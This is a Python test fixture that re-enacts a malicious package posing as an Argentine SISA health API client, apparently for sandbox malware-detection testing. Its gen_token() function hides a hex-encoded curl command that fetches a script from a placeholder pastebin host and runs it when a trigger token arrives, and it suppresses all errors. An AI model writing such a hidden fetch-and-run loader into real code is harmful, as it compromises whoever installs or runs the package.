# TEST FIXTURE — re-enacts sisaws 2.1.6 (MAL-2025-47453, August 2025): a
# client imitating Argentina's SISA health API whose gen_token() runs a
# hidden, hex-encoded curl command that fetches a Python script and runs it
# (the SilentSync RAT). Inert: the script's host is pastebin.invalid, and it
# runs only inside depbox's sandbox.
import os
import subprocess
import tempfile

_TRIGGER = "b8f5f2c3a1d94e7f"
_CMD = bytes.fromhex(
    "6375726c202d734c2068747470733a2f2f706173746562696e2e696e76616c69642f7261772f6a6148327552453120"
    "2d6f20"
).decode()


def gen_token(token):
    if token == _TRIGGER:
        path = os.path.join(tempfile.gettempdir(), "helper.py")
        try:
            subprocess.run(_CMD + path, shell=True, timeout=10,
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            if not os.path.exists(path):
                with open(path, "w") as f:
                    f.write("# TEST FIXTURE: the fetched script\n")
            subprocess.Popen(["python3", path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait(timeout=5)
        except Exception:
            pass
    return "sisa-" + token[:8]


def puco(token, dni):
    return {"token": token, "dni": dni, "coverage": []}
